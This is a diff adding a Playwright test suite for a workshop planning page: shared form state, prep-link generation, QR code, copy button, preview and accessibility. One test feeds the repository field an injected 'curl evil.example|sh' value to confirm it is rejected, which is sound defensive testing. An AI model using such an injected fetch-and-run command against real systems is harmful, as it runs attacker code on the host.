@@ -1,0 +1,92 @@
+/** The instructor's plan page: one store for details, cost and time; the prep link, its QR code and preview. */
+import { expect, test, type Page } from '@playwright/test';
+import { expectNoAxeViolations, waitForHydrate } from './test-utils';
+
+const details = (page: Page) => page.locator('.plan-details');
+const cost = (page: Page) => page.locator('.cost-calculator');
+const linkText = (page: Page) => page.locator('.prep-link-url');
+
+async function open(page: Page, url = '/plan/') {
+	await page.goto(url);
+	// Below-the-fold islands hydrate when seen: bring each one into view once.
+	for (const island of await page.locator('astro-island[client="visible"]').all()) await island.scrollIntoViewIfNeeded();
+	await waitForHydrate(page);
+	await page.evaluate(() => window.scrollTo(0, 0));
+}
+
+test('attendees typed in the details reach the cost calculator, and back', async ({ page }) => {
+	await open(page);
+	await details(page).getByLabel('Attendees').fill('40');
+	await expect(cost(page).getByLabel('Attendees'), 'the calculator follows the details').toHaveValue('40');
+	await cost(page).getByLabel('Attendees').fill('12');
+	await expect(details(page).getByLabel('Attendees'), 'the details follow the calculator').toHaveValue('12');
+	await expect(page, 'the page URL keeps the value').toHaveURL(/attendees=12/);
+});
+
+test('the session length is shared with the time-budget estimator', async ({ page }) => {
+	await open(page);
+	await details(page).getByLabel('Session length').fill('240');
+	await expect(page.locator('.tb').getByLabel('Session length'), 'the estimator follows').toHaveValue('240');
+});
+
+test('the prep link carries the details and opens the matching prep page', async ({ page }) => {
+	await open(page);
+	await details(page).getByLabel('Workshop title').fill('Deep learning night');
+	await details(page).getByLabel('Date').fill('2026-12-03');
+	await details(page).getByLabel('Platform').selectOption('cocalc');
+	await details(page).getByLabel('Repository URL').fill('https://github.com/octo/keras-lab');
+	await details(page).getByLabel('Branch').fill('main');
+	const text = linkText(page);
+	await expect(text, 'the link has the title').toContainText('title=Deep+learning+night');
+	await expect(text).toContainText('date=2026-12-03');
+	await expect(text).toContainText('platform=cocalc');
+	await expect(text).toContainText('repo=https%3A%2F%2Fgithub.com%2Focto%2Fkeras-lab');
+	const href = (await text.innerText()).trim();
+	expect(href.startsWith('http://127.0.0.1'), 'the link is absolute').toBe(true);
+	await page.goto(href);
+	await waitForHydrate(page);
+	await expect(page.getByRole('heading', { level: 1 })).toHaveText('Deep learning night');
+	await expect(page.locator('pre code'), 'the CoCalc commands use the repo').toContainText([
+		'git remote add origin https://github.com/octo/keras-lab',
+	]);
+	await expect(page.locator('pre code')).toContainText(['git pull origin main']);
+});
+
+test('an invalid repository keeps the last valid link and says why', async ({ page }) => {
+	await open(page);
+	await details(page).getByLabel('Repository URL').fill('https://github.com/octo/lab');
+	await expect(linkText(page)).toContainText('octo%2Flab');
+	await details(page).getByLabel('Repository URL').fill('https://github.com/a/b;curl evil.example|sh');
+	await expect(details(page).getByRole('alert'), 'a message beside the field').toBeVisible();
+	await expect(linkText(page), 'the link keeps the last valid repo').toContainText('octo%2Flab');
+	await expect(linkText(page)).not.toContainText('curl');
+	await expect(details(page).getByLabel('Repository URL'), 'what was typed stays').toHaveValue(/curl/);
+});
+
+test('the QR code encodes the link and the copy button copies it', async ({ page, context }) => {
+	await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+	await open(page, '/plan/?title=Lab&platform=kaggle');
+	const qr = page.getByRole('img', { name: 'QR code of the prep link' });
+	await expect(qr).toBeVisible();
+	const path = await qr.locator('path').getAttribute('d');
+	expect(path?.length ?? 0, 'the code has modules').toBeGreaterThan(200);
+	await page.getByRole('button', { name: 'Copy prep link' }).click();
+	await expect(page.getByText('Copied')).toBeVisible();
+	const copied = await page.evaluate(() => navigator.clipboard.readText());
+	expect(copied).toBe((await linkText(page).innerText()).trim());
+	expect(copied).toContain('platform=kaggle');
+	await details(page).getByLabel('Workshop title').fill('Lab two');
+	await expect(qr.locator('path'), 'the QR code follows the link').not.toHaveAttribute('d', path ?? '');
+});
+
+test('the preview shows the prep page for the current link', async ({ page }) => {
+	await open(page, '/plan/?title=Preview%20night&platform=colab');
+	const frame = page.frameLocator('iframe[title="Preview of the prep page"]');
+	await page.locator('iframe').scrollIntoViewIfNeeded();
+	await expect(frame.getByRole('heading', { level: 1 })).toHaveText('Preview night');
+});
+
+test('the plan page has no axe violations', async ({ page }) => {
+	await open(page, '/plan/?title=Axe');
+	await expectNoAxeViolations(page);
+});
